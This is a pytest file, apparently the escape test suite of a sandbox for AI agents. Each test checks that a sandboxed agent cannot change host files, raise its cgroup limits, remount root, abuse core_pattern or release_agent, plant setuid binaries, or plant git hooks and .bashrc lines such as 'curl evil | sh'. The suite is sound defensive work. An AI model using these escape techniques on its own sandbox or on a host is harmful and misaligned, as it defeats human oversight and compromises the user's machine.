"""Escape corpus: changing the host's files from inside the sandbox.

Outside, root creates the file (and the test removes it); inside, the same
write fails (EROFS from the read-only host tree, or EACCES/EPERM), and the
host is checked to be unchanged afterwards. The workspace stays writable (so
the failures are the sandbox's doing, not a broken launch), except the files
the human later executes (.git/hooks, .git/config, shell rc files).
"""
import contextlib
import os
import pathlib
import shutil
import subprocess

import pytest

from escape_helpers import (known_weakness, need_tools, PROBE, describe, expect_denied, expect_ok, expect_ran,  # noqa: F401
                            lab, outside, probe_outside, result)

WRITE_ERRNOS = ("EROFS", "EACCES", "EPERM")


@contextlib.contextmanager
def removed_afterwards(*paths):
    try:
        yield
    finally:
        for p in paths:
            with contextlib.suppress(FileNotFoundError, IsADirectoryError):
                os.unlink(p)


def dir_for(top, lab):
    """An existing directory under top that root can write to outside."""
    return {"/etc": "/etc", "/usr": "/usr/local/bin", "/var": "/var/lib", "/root": "/root",
            "/srv": str(lab.srv_dir), "/home": "/home", "/opt": "/opt", "/boot": "/boot"}[top]


@pytest.mark.parametrize("top", ["/etc", "/usr", "/var", "/root", "/srv", "/home", "/opt"])
def test_create_a_file_on_the_host_tree(lab, top):
    d = dir_for(top, lab)
    if not os.path.isdir(d):
        pytest.skip(f"{d} does not exist on this machine")
    target = os.path.join(d, lab.tag + "-created")
    with removed_afterwards(target):
        expect_ok(probe_outside("write", target))
        os.unlink(target)
        expect_denied(lab.probe_inside("write", target), *WRITE_ERRNOS)
        assert not os.path.exists(target), f"{target} appeared on the host"


def test_overwrite_an_existing_config_with_shell_tools(lab):
    """The incident's kind of change: edit /etc with the tools an agent uses."""
    target = lab.etc_dir / "corosync.conf"
    target.write_text("totem { cluster_name: pve }\n")
    r = lab.sh_inside(f"echo 'cluster_name: xenon' >> {target}; echo a=$?; "
                      f"sed -i s/pve/xenon/ {target}; echo b=$?; rm -f {target}; echo c=$?; "
                      f"mv {target} {target}.bak; echo d=$?; chmod 777 {target}; echo e=$?; "
                      f"touch -d 2001-01-01 {target}; echo f=$?")
    for step in "abcdef":
        assert f"{step}=0" not in r.stdout and f"{step}=" in r.stdout, f"step {step} changed the host:{describe(r)}"
    assert target.read_text() == "totem { cluster_name: pve }\n"
    assert oct(target.stat().st_mode)[-3:] == "644"


@pytest.mark.parametrize("where", ["/etc", "/srv", "/root"])
def test_truncate_a_host_file_by_path(lab, where):
    """truncate(2) needs no open file and no write permission check by Landlock (not handled:
    it would cost a walk of every opened path): the read-only host tree refuses it. The
    other side: root truncates a copy outside, and the workspace's own file inside."""
    d = {"/etc": lab.etc_dir, "/srv": lab.srv_dir, "/root": pathlib.Path("/root")}[where]
    target = d / (lab.tag + "-truncate-me")
    copy = d / (lab.tag + "-truncate-copy")
    with removed_afterwards(target, copy):
        target.write_text("keep me\n")
        copy.write_text("keep me\n")
        expect_ok(probe_outside("truncate", copy))
        assert copy.read_text() == "", "truncate did not work outside"
        expect_denied(lab.probe_inside("truncate", target), *WRITE_ERRNOS)
        assert target.read_text() == "keep me\n", f"{target} was truncated from inside"
    ws_file = lab.ws("truncate-mine")
    ws_file.write_text("scratch\n")
    os.chmod(ws_file, 0o666)
    expect_ok(lab.probe_inside("truncate", ws_file), "truncating a workspace file inside")
    assert ws_file.read_text() == ""


def test_device_node_planted_on_the_host_tree(lab):
    """Device ioctls are not handled by Landlock either: a device node opens only under the
    sandbox's own /dev (every other mount is nodev). Outside, the planted node (a copy of
    /dev/null) opens and answers; inside it cannot be opened, while /dev/null can."""
    node = lab.srv_dir / (lab.tag + "-null")
    with removed_afterwards(node):
        os.mknod(node, 0o666 | 0o020000, os.makedev(1, 3))
        os.chmod(node, 0o666)
        expect_ok(probe_outside("ioctl-dev", node))
        expect_denied(lab.probe_inside("ioctl-dev", node), "EACCES", "EPERM")
        expect_ok(lab.probe_inside("ioctl-dev", "/dev/null"), "the sandbox's own /dev/null")


def test_remount_the_root_read_write(lab):
    """mount -o remount,rw / : outside (in a private mount namespace) root may; inside not."""
    out = outside("unshare", "-m", "--propagation", "private", "mount", "-o", "remount,rw", "/")
    assert out.returncode == 0, describe(out)
    r = lab.sh_inside("mount -o remount,rw /; echo rc=$?; mount -o remount,bind,rw /; echo rc=$?")
    assert "rc=0" not in r.stdout and r.stdout.count("rc=") == 2, describe(r)
    expect_denied(lab.probe_inside("remount-rw", "/"), "EPERM")
    expect_denied(lab.probe_inside("write", f"/etc/{lab.tag}-after-remount"), *WRITE_ERRNOS)


def test_proc_sys_write(lab):
    """Writing a sysctl (the same value it has, so that success outside changes nothing)."""
    path = "/proc/sys/vm/overcommit_memory"
    value = open(path).read().strip()
    expect_ok(probe_outside("writeval", path, value))
    expect_denied(lab.probe_inside("writeval", path, value), *WRITE_ERRNOS)


def test_core_pattern(lab):
    """core_pattern with a pipe runs a program as root on the host: the classic container escape."""
    path = "/proc/sys/kernel/core_pattern"
    value = open(path).read().strip()
    expect_ok(probe_outside("writeval", path, value))
    # inside writes the value it already has: a weak sandbox must not be able to harm the host
    expect_denied(lab.probe_inside("writeval", path, value), *WRITE_ERRNOS, "ENOENT")
    assert open(path).read().strip() == value


def test_sysrq_trigger(lab):
    if not os.path.exists("/proc/sysrq-trigger"):
        # the kernel has no magic SysRq: nothing to trigger, inside or out
        expect_denied(lab.probe_inside("writeval", "/proc/sysrq-trigger", "h"), "ENOENT", *WRITE_ERRNOS)
        pytest.skip("this kernel has no /proc/sysrq-trigger (CONFIG_MAGIC_SYSRQ off); checked it is absent inside")
    assert os.access("/proc/sysrq-trigger", os.W_OK)
    expect_denied(lab.probe_inside("writeval", "/proc/sysrq-trigger", "h"), *WRITE_ERRNOS, "ENOENT")


SAFE_SYSFS = ("/sys/kernel/mm/transparent_hugepage/defrag", "/sys/class/net/lo/mtu",
              "/sys/kernel/mm/ksm/run", "/sys/module/printk/parameters/time")


def sysfs_value(path):
    text = open(path).read().strip()
    if "[" in text:  # "always defer [madvise] never": the selected one
        text = text[text.index("[") + 1:text.index("]")]
    return text


def test_sys_write(lab):
    """Writing sysfs attributes (each gets the value it has: harmless if a sandbox fails)."""
    targets = [p for p in SAFE_SYSFS if os.path.exists(p)]
    if not targets:
        pytest.skip("none of the known harmless sysfs attributes exists on this machine")
    for path in targets:
        value = sysfs_value(path)
        expect_ok(probe_outside("writeval", path, value))
        expect_denied(lab.probe_inside("writeval", path, value), *WRITE_ERRNOS, "ENOENT")


def cgroup_dirs():
    roots = []
    for line in open("/proc/self/mounts"):
        dev, mnt, fstype = line.split()[:3]
        if fstype in ("cgroup", "cgroup2"):
            roots.append(mnt)
    return roots


def test_cgroup_tree_mkdir(lab):
    """Creating a cgroup (to escape the pids/memory limits into one of our own)."""
    roots = cgroup_dirs()
    assert roots, "the host has cgroup filesystems mounted"
    for root in roots:
        target = os.path.join(root, lab.tag)
        try:
            os.mkdir(target)
            os.rmdir(target)
            outside_ok = True
        except OSError:
            outside_ok = False
        if not outside_ok:
            continue
        r = lab.sh_inside(f"mkdir {target}; echo rc=$?")
        assert "rc=" in r.stdout and "rc=0" not in r.stdout, f"mkdir {target} worked inside:{describe(r)}"
        assert not os.path.exists(target), f"{target} was created on the host"
        if os.path.exists(target):
            os.rmdir(target)


def test_cgroup_raise_own_limits(lab):
    """Inside, find our own cgroup and lift its pids and memory limits."""
    r = lab.sh_inside(
        "for c in $(cut -d: -f3 /proc/self/cgroup | sort -u); do "
        " for d in /sys/fs/cgroup$c /sys/fs/cgroup/*$c /sys/fs/cgroup/unified$c; do "
        "  for f in pids.max memory.max memory.limit_in_bytes memory.memsw.limit_in_bytes; do "
        "   [ -e $d/$f ] && { echo max > $d/$f 2>/dev/null && echo RAISED $d/$f; "
        "                     echo -1 > $d/$f 2>/dev/null && echo RAISED $d/$f; }; "
        "  done; done; done; echo done")
    assert "done" in r.stdout, describe(r)
    assert "RAISED" not in r.stdout, f"a cgroup limit was raised from inside:{describe(r)}"
    # and the limit still holds (the resource tests measure it precisely)
    f = lab.probe_inside("forkbomb", "1000")
    assert result(f) and result(f)[0] == "ERR", f"the pids limit is gone:{describe(f)}"


def test_cgroup_release_agent(lab):
    """cgroup v1 release_agent runs a program as root on the host (CVE-2022-0492)."""
    agents = [os.path.join(r, "release_agent") for r in cgroup_dirs()
              if os.path.exists(os.path.join(r, "release_agent"))]
    if not agents:
        pytest.skip("no cgroup v1 hierarchy with a release_agent on this machine")
    path = agents[0]
    value = open(path).read().strip()
    expect_ok(probe_outside("writeval", path, value or "\n"))
    expect_denied(lab.probe_inside("writeval", path, value or "\n"), *WRITE_ERRNOS, "ENOENT")
    r = lab.sh_inside(f"mkdir -p /tmp/cg && mount -t cgroup -o none,name={lab.tag} cgroup /tmp/cg; echo rc=$?; umount /tmp/cg 2>/dev/null")
    assert "rc=" in r.stdout and "rc=0" not in r.stdout, describe(r)


def test_workspace_is_writable(lab):
    """The control: the workspace is writable inside, so the failures above are the sandbox's walls."""
    target = lab.ws("written-inside")
    with removed_afterwards(target):
        expect_ok(lab.probe_inside("write", target), what="writing the workspace inside")
        assert target.read_text() == "airlock-escape\n"


def test_symlink_in_the_workspace_to_etc(lab):
    """A symlink in the workspace pointing at /etc: writing through it reaches /etc, not the workspace."""
    link = lab.ws("etc-link")
    os.symlink("/etc", link)
    target = f"/etc/{lab.tag}-via-symlink"
    try:
        with removed_afterwards(target):
            expect_ok(probe_outside("write", f"{link}/{lab.tag}-via-symlink"))
            os.unlink(target)
            expect_denied(lab.probe_inside("write", f"{link}/{lab.tag}-via-symlink"), *WRITE_ERRNOS)
            assert not os.path.exists(target)
    finally:
        link.unlink()


def test_workspace_that_is_a_symlink_is_refused(lab):
    """--workspace through a symlink to /etc: the launch is refused (or /etc stays read-only)."""
    link = lab.hostfile("ws-symlink")
    os.symlink("/etc", link)
    target = f"/etc/{lab.tag}-ws-symlink"
    try:
        with removed_afterwards(target):
            r = lab.probe_inside("write", target, workspace=link)
            if result(r) is not None:
                expect_denied(r, *WRITE_ERRNOS)
            else:
                assert r.returncode != 0 and "symlink" in r.stderr.lower(), describe(r)
            assert not os.path.exists(target)
    finally:
        link.unlink()


def test_rw_path_through_a_symlink_is_refused(lab):
    link = lab.hostfile("rw-symlink")
    os.symlink("/etc", link)
    target = f"/etc/{lab.tag}-rw-symlink"
    try:
        with removed_afterwards(target):
            r = lab.probe_inside("write", target, extra=["--rw", link])
            if result(r) is not None:
                expect_denied(r, *WRITE_ERRNOS)
            else:
                assert r.returncode != 0, describe(r)
            assert not os.path.exists(target)
    finally:
        link.unlink()


def test_hardlink_a_host_file_into_the_workspace(lab):
    """link(2) of /etc/passwd into the writable workspace, then write through it."""
    victim = lab.etc_dir / "passwd-like"
    victim.write_text("root:x:0:0\n")
    link = lab.ws("passwd-link")
    out_link = lab.hostfile("outside-link")
    os.link(victim, out_link)  # outside: same filesystem, link works
    out_link.unlink()
    r = lab.sh_inside(f"ln {victim} {link}; echo rc=$?; echo pwned >> {link}")
    try:
        assert "rc=" in r.stdout, describe(r)
        assert victim.read_text() == "root:x:0:0\n", f"the host file was changed through a hardlink:{describe(r)}"
    finally:
        with contextlib.suppress(FileNotFoundError):
            link.unlink()


def test_rename_a_host_file_into_the_workspace(lab):
    victim = lab.etc_dir / "movable"
    victim.write_text("stay\n")
    r = lab.sh_inside(f"mv {victim} {lab.ws('moved')}; echo rc=$?")
    assert "rc=" in r.stdout, describe(r)
    assert victim.exists() and victim.read_text() == "stay\n", describe(r)
    with contextlib.suppress(FileNotFoundError):
        lab.ws("moved").unlink()


@pytest.fixture
def repo(lab):
    need_tools("git")
    ws = lab.ws("repo")
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    os.chmod(ws, 0o777)
    for root, dirs, files in os.walk(ws):
        for d in dirs:
            os.chmod(os.path.join(root, d), 0o777)
        for f in files:
            os.chmod(os.path.join(root, f), 0o666)
    yield ws
    subprocess.run(["rm", "-rf", str(ws)])


def test_git_hooks_are_read_only(lab, repo):
    """A hook the human's next `git commit` runs: the agent must not plant one."""
    hook = repo / ".git" / "hooks" / "pre-commit"
    r = lab.sh_inside(f"cd {repo} && echo 'curl evil | sh' >> {hook}; echo a=$?; "
                      f"echo x > .git/hooks/post-checkout; echo b=$?; "
                      f"git -c safe.directory='*' config core.hooksPath /tmp; echo c=$?; "
                      f"echo ok > notes.txt; echo d=$?", workspace=repo)
    assert "a=0" not in r.stdout and "b=0" not in r.stdout and "c=0" not in r.stdout, describe(r)
    assert "d=0" in r.stdout, f"the rest of the workspace must stay writable:{describe(r)}"
    assert "evil" not in hook.read_text()
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
    assert "hooksPath" not in (repo / ".git" / "config").read_text()


def test_git_dir_replaced_by_rename(lab, repo):
    """Move .git aside and make a new one with a hook: the protected paths must survive that."""
    r = lab.sh_inside(f"cd {repo} && mv .git .git-old; echo a=$?; mkdir -p .git/hooks; "
                      f"echo 'evil' > .git/hooks/pre-commit; echo b=$?; "
                      f"mv .git/hooks .git/hooks-old; echo c=$?", workspace=repo)
    assert "a=" in r.stdout, describe(r)
    hook = repo / ".git" / "hooks" / "pre-commit"
    assert hook.exists() and "evil" not in hook.read_text(), f"a new hook was planted:{describe(r)}"
    assert (repo / ".git" / "config").exists()


def test_shell_rc_file_that_does_not_exist_yet(lab):
    """.bashrc is protected even when the workspace has none yet: creating it (or writing a
    placeholder airlock may have put there) must fail, and nothing is left behind."""
    rc = lab.ws(".bashrc")
    assert not rc.exists()
    expect_ok(probe_outside("write", rc))
    rc.unlink()
    r = lab.sh_inside(f"echo 'curl evil | sh' >> {rc}; echo rc=$?; ls -la {lab.ws()}")
    try:
        assert "rc=" in r.stdout and "rc=0" not in r.stdout, f".bashrc was written inside:{describe(r)}"
        assert not rc.exists() or "evil" not in rc.read_text(), describe(r)
        assert not rc.exists(), f"a placeholder .bashrc was left in the workspace after the session"
    finally:
        rc.unlink(missing_ok=True)


def test_writes_to_tmp_do_not_reach_the_host(lab):
    """/tmp, /var/tmp, /run and /dev/shm are private tmpfs inside: writes stay there."""
    names = [f"/tmp/{lab.tag}", f"/var/tmp/{lab.tag}", f"/dev/shm/{lab.tag}", f"/run/{lab.tag}"]
    r = lab.sh_inside("; ".join(f"echo x > {n} 2>/dev/null" for n in names) + "; echo done")
    assert "done" in r.stdout, describe(r)
    leaked = [n for n in names if os.path.exists(n)]
    for n in leaked:
        os.unlink(n)
    assert not leaked, f"files written inside appeared on the host: {leaked}"


def planted_is_dangerous(path):
    st = path.stat()
    return (st.st_mode & 0o4000 and st.st_uid == 0) or (st.st_mode & 0o2010 == 0o2010 and st.st_gid == 0)


@pytest.mark.parametrize("how", ["chmod", "o_tmpfile"])
def test_setuid_root_binary_planted_in_the_workspace(lab, how):
    """The agent makes a setuid copy of a program in the workspace. Files it creates there land
    on the host as the workspace owner's (root here, through the idmapped mount): a set-id bit
    would leave a root shell for later. Two ways: cp + chmod, and an O_TMPFILE created with
    mode 06755 (no O_CREAT flag) then linked in. Outside, root does both."""
    planted = lab.ws("planted-" + how)
    outside_dir = lab.hostfile("plant-outside")
    outside_dir.mkdir()
    try:
        if how == "chmod":
            shutil.copy(PROBE, outside_dir / "x")
            os.chmod(outside_dir / "x", 0o6755)
            script = f"cp {lab.probe} {planted} && chmod 6755 {planted}; ls -ln {planted}"
        else:
            expect_ok(probe_outside("tmpfile-suid", outside_dir, "x"))
            script = f"{lab.probe} tmpfile-suid {lab.ws()} planted-{how}; ls -ln {planted}"
        assert planted_is_dangerous(outside_dir / "x"), "outside, root plants a set-id root file"
        assert "euid=0" in expect_ok(outside(outside_dir / "x", "ids", user="nobody"))
        r = lab.sh_inside(script)
        assert "ls" in r.stdout + r.stderr or planted.exists() or "ERR" in r.stdout, describe(r)
        if planted.exists():
            st = planted.stat()
            assert not planted_is_dangerous(planted), \
                f"the agent planted a set-id root file on the host: mode {oct(st.st_mode)} uid {st.st_uid} gid {st.st_gid}{describe(r)}"
            if st.st_size:
                out = outside(planted, "ids", user="nobody")
                assert "euid=0" not in out.stdout and "egid=0" not in out.stdout, describe(out)
    finally:
        planted.unlink(missing_ok=True)
        shutil.rmtree(outside_dir, ignore_errors=True)


def test_workspace_swapped_for_a_symlink_during_launch(lab):
    """A race: the workspace path flips between a directory and a symlink to /etc while airlock
    starts. Resolving it once, through a file descriptor, leaves no window to write /etc."""
    import threading
    base = lab.hostfile("race")
    base.mkdir()
    ws = base / "ws"
    real = base / "real"
    real.mkdir()
    real.chmod(0o777)
    target = pathlib.Path("/etc") / f"{lab.tag}-race"
    stop = False

    link = base / "link"
    os.symlink("/etc", link)

    def flip():
        # ws is, in turn, the real directory and a symlink to /etc (each rename is atomic)
        while not stop:
            for src in (real, link):
                try:
                    os.rename(src, ws)
                    os.rename(ws, src)
                except OSError:
                    pass
    t = threading.Thread(target=flip, daemon=True)
    t.start()
    try:
        for _ in range(30):
            lab.inside(lab.probe, "write", f"{ws}/{lab.tag}-race", workspace=ws, timeout=30)
            if target.exists():
                break
    finally:
        stop = True
        t.join(5)
        written = target.exists()
        target.unlink(missing_ok=True)
        subprocess.run(["rm", "-rf", str(base)])
    assert not written, f"{target} was written from inside through a swapped workspace"


def test_move_into_another_cgroup(lab):
    """Leaving the sandbox's cgroup for the root of a hierarchy lifts its limits."""
    r = lab.sh_inside("for f in /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/*/cgroup.procs; do "
                      "[ -e $f ] && echo $$ > $f 2>/dev/null && echo MOVED $f; done; echo done")
    assert "done" in r.stdout and "MOVED" not in r.stdout, describe(r)


def test_symlinks_planted_for_the_next_session(lab):
    """An agent plants symlinks in the workspace where airlock (root) will make placeholders
    for protected names next time (.git -> a host directory, .bashrc -> a new host file,
    .profile -> an existing empty host file). Root following them would create or remove host
    files outside the workspace. Outside, root following the same links does exactly that."""
    target_dir = lab.etc_dir / "planted-dir"
    target_dir.mkdir()
    new_file = lab.etc_dir / "planted-new"
    empty_file = lab.etc_dir / "planted-empty"
    empty_file.write_text("")
    links = {".git": target_dir, ".bashrc": new_file, ".profile": empty_file}
    for name, target in links.items():
        os.symlink(target, lab.ws(name))
    try:
        # outside: root writing through the links reaches the host files
        (lab.ws(".git") / "probe-outside").write_text("x")
        assert (target_dir / "probe-outside").exists()
        (target_dir / "probe-outside").unlink()
        r = lab.inside("/bin/true")
        assert r.returncode == 0 or r.stderr, describe(r)
        assert sorted(os.listdir(target_dir)) == [], f"airlock created files through .git: {os.listdir(target_dir)}{describe(r)}"
        assert not new_file.exists(), f"airlock created {new_file} through .bashrc{describe(r)}"
        assert empty_file.exists(), f"airlock removed {empty_file} through .profile{describe(r)}"
        for name in links:
            assert lab.ws(name).is_symlink(), f"{name} was replaced{describe(r)}"
    finally:
        for name in links:
            lab.ws(name).unlink(missing_ok=True)
        shutil.rmtree(target_dir, ignore_errors=True)
        new_file.unlink(missing_ok=True)
        empty_file.unlink(missing_ok=True)


def git(*args, cwd=None):
    return subprocess.run(["git", "-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@t",
                           *map(str, args)], capture_output=True, text=True, cwd=cwd)


def test_git_worktree_gitdir_file_redirected(lab):
    """In a git worktree (or submodule) .git is a file, "gitdir: PATH": rewrite it to a git
    directory the agent made, with its own hooks, and the human's next git command runs them.
    .git/hooks cannot be protected there (it does not exist); the .git file must be."""
    need_tools("git")
    main = lab.hostfile("mainrepo")
    wt = lab.hostfile("worktree")
    git("init", "-q", main)
    (main / "README").write_text("x\n")
    git("add", "README", cwd=main)
    git("commit", "-qm", "init", cwd=main)
    assert git("worktree", "add", "-q", wt, cwd=main).returncode == 0
    subprocess.run(["chmod", "-R", "a+rwX", str(wt)])
    fake = wt / ".fakegit"
    evil = f"mkdir -p {fake} && cp -r {main}/.git/objects {main}/.git/refs {main}/.git/HEAD {fake}/ && " \
           f"mkdir -p {fake}/hooks && printf '#!/bin/sh\\necho pwned\\n' > {fake}/hooks/pre-commit && " \
           f"chmod +x {fake}/hooks/pre-commit; printf 'gitdir: {fake}\\n' > {wt}/.git; echo rc=$?"
    try:
        before = git("rev-parse", "--absolute-git-dir", cwd=wt).stdout.strip()
        assert "worktrees" in before, before
        # outside: the same steps redirect git
        saved = (wt / ".git").read_text()
        subprocess.run(["sh", "-c", evil], check=True, capture_output=True)
        assert git("rev-parse", "--absolute-git-dir", cwd=wt).stdout.strip() == str(fake)
        (wt / ".git").write_text(saved)
        shutil.rmtree(fake)
        r = lab.sh_inside(evil, workspace=wt)
        after = git("rev-parse", "--absolute-git-dir", cwd=wt).stdout.strip()
        assert after == before, f"the agent redirected the worktree's git directory to {after}{describe(r)}"
    finally:
        shutil.rmtree(main, ignore_errors=True)
        shutil.rmtree(wt, ignore_errors=True)
